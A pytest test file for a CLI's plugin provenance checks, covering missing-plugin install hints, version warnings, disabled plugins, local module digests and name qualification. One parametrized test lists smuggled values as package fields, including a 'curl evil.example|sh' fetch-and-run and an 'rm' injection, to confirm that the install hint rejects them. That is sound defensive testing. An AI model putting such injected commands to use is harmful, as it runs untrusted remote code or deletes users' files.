from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from flowgmm_cli.errors import PluginError
from flowgmm_cli.plugins.local import load_file
from flowgmm_cli.plugins.provenance import qualify, require

OWN = {"kind": "flow", "name": "realnvp", "package": "flowgmm-cli", "version": "0.0.1", "api": 1}
NSF = {"kind": "flow", "name": "nsf", "package": "fake-nsf", "version": "1.0", "api": 1}


def test_what_is_installed_is_fine_and_is_not_imported(install_flow: Any, scan: Any) -> None:
    install_flow("fake-nsf", "nsf", "raise RuntimeError")
    assert require([OWN, NSF], what="the model", known=scan()) == []


def test_an_absent_plugin_is_an_error_with_the_line_that_installs_it(scan: Any) -> None:
    with pytest.raises(PluginError) as caught:
        require([OWN, NSF], what="the model in runs/x", known=scan())
    assert caught.value.exit_code == 4
    message = "the model in runs/x needs the flow `nsf` from fake-nsf 1.0, which is not installed"
    assert caught.value.message == message
    assert caught.value.hint == "pip install fake-nsf==1.0"


@pytest.mark.parametrize(
    "words",
    [
        {"package": "x; curl evil.example|sh #", "version": "1"},
        {"package": "fake-nsf", "version": "1; rm x"},
        {"package": "-r evil.txt", "version": None},
        {"package": "git+https://evil.example/x", "version": None},
    ],
)
def test_a_hint_to_paste_has_the_name_of_a_package_only(words: dict[str, Any], scan: Any) -> None:
    with pytest.raises(PluginError) as caught:
        require([{**NSF, **words}], what="the model", known=scan())
    assert str(caught.value.hint).startswith("this is not the name of a package")


def test_another_package_with_the_name_is_no_substitute(install_flow: Any, scan: Any) -> None:
    install_flow("fake-other", "nsf")
    with pytest.raises(PluginError, match=r"from fake-nsf 1\.0, which is not installed"):
        require([NSF], what="the model", known=scan())


def test_a_package_without_the_component_is_not_called_missing(install_flow: Any, scan: Any) -> None:
    install_flow("fake-nsf", "glow")
    with pytest.raises(PluginError, match="which does not offer it any more"):
        require([NSF], what="the model", known=scan())


def test_another_version_is_a_warning(install_flow: Any, scan: Any) -> None:
    install_flow("fake-nsf", "nsf")
    package = {**NSF, "version": "0.9"}
    assert require([package, package], what="the model", known=scan()) == [
        "the model was made with fake-nsf 0.9; installed is 1.0"
    ]


def test_a_disabled_plugin_is_an_error(install_flow: Any, scan: Any) -> None:
    install_flow("fake-nsf", "nsf")
    with pytest.raises(PluginError, match="switched off by FLOWGMM_DISABLE_PLUGINS"):
        require([NSF], what="the model", known=scan(disabled="fake-nsf"))


def test_the_hint_for_a_local_module_has_its_flag(tmp_path: Path, scan: Any) -> None:
    file = tmp_path / "mine.py"
    source = "from flowgmm_cli.api import *\nNSF = FlowSpec(config=Config, build='mine:x', summary='')\n"
    file.write_text(source, encoding="utf-8")
    (entry,) = load_file(file)
    package = {**NSF, "package": "mine-py", "version": None, "path": str(file), "sha256": entry.digest}
    with pytest.raises(PluginError, match="from the plugin module") as caught:
        require([package], what="the model", known=scan())
    assert caught.value.hint == f"give it again: --plugin-module {file}"
    loaded = scan(entry)
    assert require([package], what="the model", known=loaded) == []
    (warning,) = require([{**package, "sha256": "0"}], what="the model", known=loaded)
    assert warning == f"{file} has changed since the model was made with it"


def test_bare_names_keep_the_meaning_they_had_and_qualified_names_stay() -> None:
    values = {"flow": {"use": "nsf", "bins": 3}, "data": {"use": "csv", "x": [{"use": "nsf"}, 1]}, "use": 3}
    assert qualify(values, [OWN, NSF]) == {
        "flow": {"use": "fake-nsf/nsf", "bins": 3},
        "data": {"use": "csv", "x": [{"use": "fake-nsf/nsf"}, 1]},
        "use": 3,
    }
    assert qualify([{"changes": {"flow.use": "nsf"}}], [NSF]) == [{"changes": {"flow.use": "fake-nsf/nsf"}}]
    assert qualify(values, [OWN]) is values
    assert qualify(values, [NSF, {**NSF, "kind": "data", "package": "fake-two"}]) is values

    assert qualify({"use": "fake-nsf/nsf"}, [NSF]) == {"use": "fake-nsf/nsf"}
